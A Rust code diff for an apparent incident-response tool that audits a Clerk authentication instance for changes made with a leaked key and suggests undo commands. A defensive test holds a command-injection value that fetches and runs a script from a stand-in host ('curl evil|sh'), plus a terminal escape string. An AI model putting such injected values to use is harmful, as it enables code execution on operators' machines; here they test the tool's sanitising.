@@ -58,6 +58,21 @@ enum Step {
 }
 
 impl Step {
+    /// The checks whose results this one builds on.
+    fn needs(self) -> &'static [&'static str] {
+        match self {
+            Step::UsersDeleted | Step::Sessions => &["users created", "users updated"],
+            Step::M2mTokens => &["machines"],
+            Step::ApiKeys => &[
+                "organizations",
+                "machines",
+                "users created",
+                "users updated",
+            ],
+            _ => &[],
+        }
+    }
+
     fn name(self) -> &'static str {
         match self {
             Step::UsersCreated => "users created",
@@ -93,40 +108,80 @@ fn id_of(object: &Value) -> String {
     object["id"].as_str().unwrap_or_default().to_owned()
 }
 
-/// Metadata members that grant access, shown with their values; other members by name.
-fn metadata_summary(metadata: &Value) -> Option<String> {
+/// Metadata members by name; with `values`, the short scalar values of those that grant
+/// access (`role = "admin"`). Names that may hold a credential (token, secret, key,
+/// password) never show a value, and neither does private metadata (`values` false).
+fn metadata_summary(metadata: &Value, values: bool) -> Option<String> {
     let members = metadata.as_object().filter(|members| !members.is_empty())?;
-    let access = |name: &str| {
+    let has = |name: &str, words: &[&str]| {
         let name = name.to_ascii_lowercase();
-        [
-            "role",
-            "admin",
-            "permission",
-            "scope",
-            "plan",
-            "tier",
-            "staff",
-            "access",
-        ]
-        .iter()
-        .any(|word| name.contains(word))
+        words.iter().any(|word| name.contains(word))
     };
     let parts: Vec<String> = members
         .iter()
         .map(|(name, value)| {
-            if access(name) {
-                format!("{name} = {value}")
+            let grants = has(
+                name,
+                &["role", "admin", "permission", "plan", "tier", "staff"],
+            );
+            let credential = has(name, &["token", "secret", "key", "password", "credential"]);
+            let short = match value {
+                Value::String(text) => text.chars().count() <= 40,
+                Value::Bool(_) | Value::Number(_) => true,
+                _ => false,
+            };
+            if values && grants && !credential && short {
+                format!("{} = {value}", printable(name))
             } else {
-                name.clone()
+                printable(name)
             }
         })
         .collect();
     Some(parts.join(", "))
 }
 
+/// Text from the Backend API made safe to print: control characters (terminal escapes)
+/// replaced.
+fn printable(text: &str) -> String {
+    text.chars()
+        .map(|c| if c.is_control() { '?' } else { c })
+        .collect()
+}
+
+/// Whether an id can go into a pasted command as it is (Clerk's ids are letters, digits and
+/// `_`); anything else could break out of the quotes.
+fn safe_id(id: &str) -> bool {
+    !id.is_empty()
+        && id
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
+}
+
 /// Whether a membership role is an admin role (`org:admin`, or a custom `…admin…`).
 fn is_admin_role(role: &str) -> bool {
     role.to_ascii_lowercase().contains("admin")
+}
+
+/// Whether a membership administers its organisation: an admin role, or a custom role that
+/// holds the system permissions to manage members or the organisation.
+fn is_admin_membership(membership: &Value) -> bool {
+    let role = membership
+        .get("role")
+        .and_then(Value::as_str)
+        .unwrap_or_default();
+    let manages = membership
+        .get("permissions")
+        .and_then(Value::as_array)
+        .into_iter()
+        .flatten()
+        .filter_map(Value::as_str)
+        .any(|permission| {
+            matches!(
+                permission,
+                "org:sys_memberships:manage" | "org:sys_profile:manage" | "org:sys_profile:delete"
+            )
+        });
+    is_admin_role(role) || manages
 }
 
 /// The audit in progress.
@@ -143,13 +198,33 @@ struct Audit<'a> {
     changed_users: BTreeSet<String>,
     /// New users whose `created_at` says they are older than the baseline.
     backdated: BTreeSet<String>,
+    /// Parts of a check that could not be read although the check went on.
+    partial: Vec<NotChecked>,
     organizations: Vec<String>,
     machines: Vec<String>,
 }
 
-impl Audit<'_> {
+impl<'a> Audit<'a> {
+    /// The baseline, when it may rule changes out: only one taken before the window began
+    /// (a later one may already hold the attacker's changes). A later one still finds more.
+    fn ruling_out(&self) -> Option<&'a Baseline> {
+        self.baseline
+            .filter(|baseline| baseline.taken_at_ms <= self.window.since_ms)
+    }
+
     fn undo(&self, method: &str, path: &str, body: Option<&str>) -> String {
-        curl(&self.base, method, path, body)
+        let segments_safe = path
+            .split('/')
+            .filter(|segment| !segment.is_empty())
+            .all(safe_id);
+        if segments_safe {
+            curl(&self.base, method, path, body)
+        } else {
+            format!(
+                "The id holds unexpected characters: undo it in the Dashboard ({method} {})",
+                printable(path)
+            )
+        }
     }
 
     fn find(
@@ -161,11 +236,23 @@ impl Audit<'_> {
         why: &str,
         undo: String,
     ) {
+        let mut what = what;
+        if let Some(at) = at_ms.filter(|at| *at > self.window.until_ms) {
+            // Clerk keeps only the latest update: one after the window may hide one in it.
+            what.push_str(&format!(
+                "; last changed after the window ({}), which may hide a change inside it",
+                time(at)
+            ));
+        }
         self.findings.push(Finding {
             kind,
-            id,
+            id: if id.chars().any(char::is_control) {
+                printable(&id)
+            } else {
+                id
+            },
             at_ms,
-            what,
+            what: printable(&what),
             why: why.to_owned(),
             undo,
         });
@@ -207,11 +294,11 @@ impl Audit<'_> {
             (None, false) => name,
             (None, true) => "a user without email or name".to_owned(),
         };
-        for (member, label) in [
-            ("public_metadata", "public"),
-            ("private_metadata", "private"),
+        for (member, label, values) in [
+            ("public_metadata", "public", true),
+            ("private_metadata", "private", false),
         ] {
-            if let Some(summary) = metadata_summary(&user[member]) {
+            if let Some(summary) = metadata_summary(&user[member], values) {
                 text.push_str(&format!("; {label} metadata: {summary}"));
             }
         }
@@ -244,7 +331,11 @@ impl Audit<'_> {
             page_size: Some(MAX_PAGE_SIZE),
         };
         let users = self.api.list_objects(&list, |_| true).await?;
-        for user in &users {
+        let window = self.window;
+        let in_window = users
+            .iter()
+            .filter(|user| ms(user, "created_at").is_some_and(|at| window.contains(at)));
+        for user in in_window {
             let id = id_of(user);
             self.new_users.insert(id.clone());
             let what = Self::describe_user(user);
@@ -272,7 +363,9 @@ impl Audit<'_> {
             else {
                 continue;
             };
-            if self.window.contains(created) || !self.window.contains(updated) {
+            // A user changed in the window and again after it shows only the later time:
+            // anything updated since the window began is a candidate.
+            if self.window.contains(created) || updated < self.window.since_ms {
                 continue;
             }
             let now = UserDigest::of(&user);
@@ -298,16 +391,21 @@ impl Audit<'_> {
                 Some(Some(before)) => {
                     let differences = before.differences(&now);
                     if differences.is_empty() {
-                        continue;
+                        what.push_str("; changed in fields the baseline does not track (names, passkeys, external accounts, settings)");
+                        (
+                            Change::Updated,
+                            "changed while the key was out, in fields the baseline cannot compare: check them",
+                        )
+                    } else {
+                        what.push_str(&format!(
+                            "; changed since the baseline: {}",
+                            differences.join(", ")
+                        ));
+                        (
+                            Change::Updated,
+                            "metadata roles or sign-in details decide what a user can do and who can sign in as them",
+                        )
                     }
-                    what.push_str(&format!(
-                        "; changed since the baseline: {}",
-                        differences.join(", ")
-                    ));
-                    (
-                        Change::Updated,
-                        "metadata roles or sign-in details decide what a user can do and who can sign in as them",
-                    )
                 }
                 None => (
                     Change::Updated,
@@ -318,30 +416,11 @@ impl Audit<'_> {
             let undo = if change == Change::Created {
                 self.undo("DELETE", &format!("/v1/users/{id}"), None)
             } else {
-                let keys: Vec<String> = ["public_metadata", "private_metadata"]
-                    .iter()
-                    .filter_map(|member| {
-                        let names: Vec<String> = user
-                            .get(*member)?
-                            .as_object()?
-                            .keys()
-                            .map(|name| format!("\"{name}\":null"))
-                            .collect();
-                        (!names.is_empty()).then(|| format!("\"{member}\":{{{}}}", names.join(",")))
-                    })
-                    .collect();
-                if keys.is_empty() {
-                    format!("Dashboard → Users → {id}: compare with what it was and restore it")
-                } else {
-                    format!(
-                        "{} (removes those metadata members; put back the values they had before, if any)",
-                        self.undo(
-                            "PATCH",
-                            &format!("/v1/users/{id}/metadata"),
-                            Some(&format!("{{{}}}", keys.join(",")))
-                        )
-                    )
-                }
+                format!(
+                    "Dashboard → Users → {}: restore its metadata and sign-in details from your own records (the Backend API call is PATCH /v1/users/{{id}}/metadata, where null removes a member); if the account itself was taken over, ban it first: {}",
+                    printable(&id),
+                    self.undo("POST", &format!("/v1/users/{id}/ban"), None)
+                )
             };
             self.find(
                 FindingKind::new(ObjectKind::User, change),
@@ -397,9 +476,9 @@ impl Audit<'_> {
             let id = id_of(org);
             self.organizations.push(id.clone());
             let created = ms(org, "created_at").filter(|at| self.window.contains(*at));
-            let updated = ms(org, "updated_at").filter(|at| self.window.contains(*at));
+            let updated = ms(org, "updated_at").filter(|at| *at >= self.window.since_ms);
             let changed_since_baseline = self
-                .baseline
+                .ruling_out()
                 .and_then(|baseline| baseline.organizations.get(&id))
                 .is_none_or(|digest| *digest != object_digest(org));
             let what = describe(org, &["name", "slug", "created_by"]);
@@ -414,8 +493,10 @@ impl Audit<'_> {
                     undo,
                 );
             } else if updated.is_some() && changed_since_baseline {
-                let undo =
-                    format!("Dashboard → Organizations → {id}: restore its settings and metadata");
+                let undo = format!(
+                    "Dashboard → Organizations → {}: restore its settings and metadata from your records",
+                    printable(&id)
+                );
                 self.find(
                     FindingKind::new(ObjectKind::Organization, Change::Updated),
                     id,
@@ -423,6 +504,25 @@ impl Audit<'_> {
                     what,
                     "an organisation's metadata and limits decide what its members can do",
                     undo,
+                );
+            }
+        }
+        if let Some(baseline) = self.baseline {
+            let now: BTreeSet<&str> = self.organizations.iter().map(String::as_str).collect();
+            let gone: Vec<String> = baseline
+                .organizations
+                .keys()
+                .filter(|id| !now.contains(id.as_str()))
+                .cloned()
+                .collect();
+            for id in gone {
+                self.find(
+                    FindingKind::new(ObjectKind::Organization, Change::Deleted),
+                    id,
+                    None,
+                    "in the baseline, gone now".to_owned(),
+                    "a deleted organisation takes its members, roles and data with it",
+                    "Deleted organisations cannot be restored: recreate it and its memberships from your records".to_owned(),
                 );
             }
         }
@@ -439,11 +539,13 @@ impl Audit<'_> {
             page_size: Some(MAX_PAGE_SIZE),
         };
         let memberships = self.api.list_objects(&list, |_| true).await?;
+        let mut admins_now = BTreeSet::new();
         for membership in &memberships {
             let role = membership["role"].as_str().unwrap_or_default();
-            if !is_admin_role(role) {
+            if !is_admin_membership(membership) {
                 continue;
             }
+            admins_now.insert(id_of(membership));
             let id = id_of(membership);
             let org = membership
                 .pointer("/organization/id")
@@ -478,11 +580,11 @@ impl Audit<'_> {
                 );
                 continue;
             }
-            let Some(at) = updated.filter(|at| self.window.contains(*at)) else {
+            let Some(at) = updated.filter(|at| *at >= self.window.since_ms) else {
                 continue;
             };
             let was_admin = self
-                .baseline
+                .ruling_out()
                 .and_then(|baseline| baseline.admin_memberships.get(&id))
                 .is_some_and(|before| before.role == role);
             if was_admin {
@@ -501,6 +603,41 @@ impl Audit<'_> {
                 "a member promoted to admin manages the organisation's members, roles and data",
                 undo,
             );
+        }
+        if let Some(baseline) = self.baseline {
+            let gone: Vec<(String, MembershipDigest)> = baseline
+                .admin_memberships
+                .iter()
+                .filter(|(id, _)| !admins_now.contains(*id))
+                .map(|(id, before)| (id.clone(), before.clone()))
+                .collect();
+            for (id, before) in gone {
+                let plain = |text: &str| {
+                    text.chars()
+                        .all(|c| c.is_ascii_alphanumeric() || matches!(c, ':' | '_' | '-'))
+                };
+                let restore_body = (plain(&before.user_id) && plain(&before.role)).then(|| {
+                    format!(
+                        "{{\"user_id\":\"{}\",\"role\":\"{}\"}}",
+                        before.user_id, before.role
+                    )
+                });
+                self.find(
+                    FindingKind::new(ObjectKind::OrganizationMembership, Change::Deleted),
+                    id,
+                    None,
+                    format!(
+                        "{} was {} of {} in the baseline, and is no longer an admin there",
+                        before.user_id, before.role, before.organization_id
+                    ),
+                    "removing the real admins locks the organisation's owners out",
+                    self.undo(
+                        "POST",
+                        &format!("/v1/organizations/{}/memberships", before.organization_id),
+                        restore_body.as_deref(),
+                    ),
+                );
+            }
         }
         Ok(memberships.len() as u64)
     }
@@ -527,9 +664,18 @@ impl Audit<'_> {
         };
         let users = self.api.list_objects(&list, |_| true).await?;
         let mut read = 0;
+        let mut failed: Vec<String> = Vec::new();
         for (done, user) in users.iter().enumerate() {
             let user_id = id_of(user);
-            let sessions = self.api.list_sessions(&user_id, None).await?;
+            let sessions = match self.api.list_sessions(&user_id, None).await {
+                Ok(sessions) => sessions,
+                // One user's list failing (deleted meanwhile, a 5xx past the retries) must not
+                // cost the others': recorded, and the walk goes on.
+                Err(error) => {
+                    failed.push(format!("{user_id}: {error}"));
+                    continue;
+                }
+            };
             read += sessions.len() as u64;
             for session in sessions {
                 if !self.window.contains(session.created_at) {
@@ -556,6 +702,18 @@ impl Audit<'_> {
             progress(AuditProgress::Users {
                 done: done as u64 + 1,
                 of: of.max(done as u64 + 1),
+            });
+        }
+        if !failed.is_empty() {
+            let shown: Vec<&str> = failed.iter().take(3).map(String::as_str).collect();
+            self.partial.push(NotChecked {
+                check: "sessions".to_owned(),
+                error: format!(
+                    "the sessions of {} user(s) could not be read: {}{}",
+                    failed.len(),
+                    shown.join("; "),
+                    if failed.len() > 3 { "; …" } else { "" }
+                ),
             });
         }
         Ok(read)
@@ -588,6 +746,25 @@ impl Audit<'_> {
                     describe(machine, &["name"]),
                     "a machine's secret key mints M2M tokens your services accept",
                     undo,
+                );
+            }
+        }
+        if let Some(baseline) = self.baseline {
+            let now: BTreeSet<&str> = self.machines.iter().map(String::as_str).collect();
+            let gone: Vec<String> = baseline
+                .machines
+                .keys()
+                .filter(|id| !now.contains(id.as_str()))
+                .cloned()
+                .collect();
+            for id in gone {
+                self.find(
+                    FindingKind::new(ObjectKind::Machine, Change::Deleted),
+                    id,
+                    None,
+                    "in the baseline, gone now".to_owned(),
+                    "the services that authenticate as this machine now fail",
+                    "Recreate the machine (POST /v1/machines) and give its services the new secret key".to_owned(),
                 );
             }
         }
@@ -694,11 +871,19 @@ impl Audit<'_> {
         let known = self
             .baseline
             .and_then(|baseline| baseline.objects.get(collection.path));
+        let ruling_out = self
+            .ruling_out()
+            .and_then(|baseline| baseline.objects.get(collection.path));
         let (method, template, body) = collection.undo;
         for object in &objects {
             let id = id_of(object);
             let what = describe(object, collection.describe);
             let undo = self.undo(method, &template.replace("{id}", &id), body);
+            let restore = format!(
+                "Dashboard → {}: restore {} from your records (deleting it would break what relies on it)",
+                collection.check,
+                printable(&id)
+            );
             let created = ms(object, "created_at");
             let updated = ms(object, "updated_at");
             match (created, known) {
@@ -712,12 +897,12 @@ impl Audit<'_> {
                         undo,
                     );
                 }
-                (Some(_), known) => {
-                    let changed = known
+                (Some(_), _) => {
+                    let changed = ruling_out
                         .and_then(|known| known.get(&id))
                         .is_none_or(|digest| *digest != object_digest(object));
                     if let Some(at) = updated
-                        .filter(|at| self.window.contains(*at))
+                        .filter(|at| *at >= self.window.since_ms)
                         .filter(|_| changed)
                     {
                         self.find(
@@ -726,7 +911,7 @@ impl Audit<'_> {
                             Some(at),
                             what,
                             collection.why,
-                            undo,
+                            restore,
                         );
                     }
                 }
@@ -738,7 +923,7 @@ impl Audit<'_> {
                         }
                         Some(digest) if *digest != object_digest(object) => {
                             self.find(FindingKind::new(collection.object, Change::Updated), id, None,
-                            format!("{what}; changed since the baseline (the API keeps no time for it)"), collection.why, undo);
+                            format!("{what}; changed since the baseline (the API keeps no time for it)"), collection.why, restore);
                         }
                         Some(_) => {}
                     }
@@ -784,16 +969,22 @@ impl Audit<'_> {
 }
 
 /// What the audit cannot see, for the report.
-fn blind_spots(baseline: Option<&Baseline>) -> Vec<String> {
+fn blind_spots(baseline: Option<&Baseline>, window: AuditWindow) -> Vec<String> {
     let mut spots = vec![
-        "Sign-in and actor tokens: Clerk lists neither, so only the sessions they started show; a token minted and not yet used stays valid (sign-in tokens up to 30 days, actor tokens 1 hour by default) until it expires".to_owned(),
-        "API keys of users the audit did not otherwise flag: Clerk lists API keys per subject, and listing every user's would cost one request per user".to_owned(),
-        "Sessions of users not active since the window began (last_active_at has day precision, so a day earlier is included)".to_owned(),
-        "Anything created and deleted again inside the window, and anything done through the Dashboard or the Frontend API rather than with the key".to_owned(),
-        "Instance settings beyond GET /v1/instance (sign-up modes, social connections, session lifetime): Dashboard only".to_owned(),
+        "Secrets the key could read without leaving a trace: every machine's secret key and every API key's secret can be fetched with it, so rotate all machine secret keys and re-issue API keys; it could also mint session tokens for existing sessions and read users' OAuth access tokens of other providers".to_owned(),
+        "Sign-in and actor tokens: Clerk lists neither. Only sessions started by impersonation, and sessions of users created in the window, are reported; a token minted and not yet used stays valid until it expires (sign-in tokens up to 30 days, actor tokens 1 hour by default), and revoking sessions does not end it".to_owned(),
+        "API keys of users the audit did not flag (Clerk lists them per subject: one request per user), and M2M tokens in JWT format (Clerk lists opaque ones only)".to_owned(),
+        "Not read by this version: webhook endpoints (Svix), SCIM directories, organisation roles, permissions and role sets (a permission added to org:member makes every member an admin), organisation invitations and domains, enterprise connections (OIDC), OAuth application secrets rotated, and instance settings beyond GET /v1/instance (restrictions, organisation settings, protect, communication, domain changes): check them in the Dashboard".to_owned(),
+        "Sessions of users not active since the day before the window began, and anything created and deleted again inside the window, or done through the Dashboard rather than with the key".to_owned(),
     ];
-    if baseline.is_none() {
-        spots.push("Without a baseline: domains (and allow/blocklist entries without timestamps) added, anything removed, users deleted, and exactly which fields of a changed user differ; take one with `clerk-incident audit snapshot` before the next incident".to_owned());
+    match baseline {
+        None => spots.push("Without a baseline: domains (and allow/blocklist entries without timestamps) added, anything removed, users deleted, admins demoted, and exactly which fields of a changed user differ; take one with `clerk-incident audit snapshot` before the next incident".to_owned()),
+        Some(baseline) if baseline.taken_at_ms > window.since_ms => spots.push(format!(
+            "The baseline was taken after the window began ({} > {}): it may already hold the attacker's changes, so it is used to find more, never to rule anything out",
+            time(baseline.taken_at_ms),
+            time(window.since_ms)
+        )),
+        Some(_) => {}
     }
     spots
 }
@@ -831,6 +1022,7 @@ pub async fn audit(
         new_users: BTreeSet::new(),
         changed_users: BTreeSet::new(),
         backdated: BTreeSet::new(),
+        partial: Vec::new(),
         organizations: Vec::new(),
         machines: Vec::new(),
     };
@@ -838,9 +1030,25 @@ pub async fn audit(
     let mut checked = Vec::new();
     let mut not_checked = Vec::new();
     let of = steps.len();
+    let mut failed: BTreeSet<&'static str> = BTreeSet::new();
     for (index, step) in steps.into_iter().enumerate() {
         let name = step.name();
         progress(AuditProgress::Check { name, index, of });
+        let missing: Vec<&str> = step
+            .needs()
+            .iter()
+            .copied()
+            .filter(|need| failed.contains(need))
+            .collect();
+        if !missing.is_empty() {
+            not_checked.push(NotChecked {
+                check: name.to_owned(),
+                error: format!(
+                    "partly: it builds on {}, which could not be read",
+                    missing.join(" and ")
+                ),
+            });
+        }
         let before = api.counters().requests;
         let result = audit.step(step, progress).await;
         let calls = api.counters().requests - before;
@@ -851,6 +1059,7 @@ pub async fn audit(
                 calls,
             }),
             Err(error) => {
+                failed.insert(name);
                 tracing::warn!(check = name, %error, "audit check failed");
                 not_checked.push(NotChecked {
                     check: name.to_owned(),
@@ -864,8 +1073,8 @@ pub async fn audit(
         baseline_taken_at_ms: baseline.map(|baseline| baseline.taken_at_ms),
         findings: audit.findings,
         checked,
-        not_checked,
-        blind_spots: blind_spots(baseline),
+        not_checked: not_checked.into_iter().chain(audit.partial).collect(),
+        blind_spots: blind_spots(baseline, window),
         calls: api.counters().requests - started,
     };
     report.sort();
@@ -1027,18 +1236,44 @@ pub async fn snapshot(api: &ClerkApi, taken_at_ms: i64) -> Result<Baseline, ApiE
 mod tests {
     use serde_json::json;
 
-    use super::{is_admin_role, metadata_summary};
+    use super::{is_admin_membership, is_admin_role, metadata_summary, printable, safe_id};
 
     #[test]
-    fn access_granting_metadata_is_shown_with_its_value() {
-        let summary = metadata_summary(&json!({"role": "admin", "theme": "dark", "isStaff": true}));
+    fn access_granting_metadata_is_shown_with_its_value_and_credentials_never() {
+        let public = json!({
+            "role": "admin",
+            "theme": "dark",
+            "isStaff": true,
+            "admin_token": "ghp_secret",
+            "plan": "a very long value that could be anything at all, really"
+        });
+        let summary = metadata_summary(&public, true);
         assert_eq!(
             summary.as_deref(),
-            Some("isStaff = true, role = \"admin\", theme")
+            Some("admin_token, isStaff = true, plan, role = \"admin\", theme")
         );
-        assert_eq!(metadata_summary(&json!({})), None);
+        assert_eq!(
+            metadata_summary(&public, false).as_deref(),
+            Some("admin_token, isStaff, plan, role, theme"),
+            "private metadata shows names only"
+        );
+        assert_eq!(metadata_summary(&json!({}), true), None);
         assert!(is_admin_role("org:admin"));
         assert!(is_admin_role("org:billing_admin"));
         assert!(!is_admin_role("org:member"));
+        assert!(is_admin_membership(
+            &json!({"role": "org:owner", "permissions": ["org:sys_memberships:manage"]})
+        ));
+        assert!(!is_admin_membership(
+            &json!({"role": "org:member", "permissions": ["org:sys_memberships:read"]})
+        ));
+    }
+
+    #[test]
+    fn hostile_text_cannot_reach_a_terminal_or_a_pasted_command() {
+        assert_eq!(printable("a\u{1b}[2Jb\n"), "a?[2Jb?");
+        assert!(safe_id("user_2x9AbC"));
+        assert!(!safe_id("user_x'$(curl evil|sh)'"));
+        assert!(!safe_id(""));
     }
 }
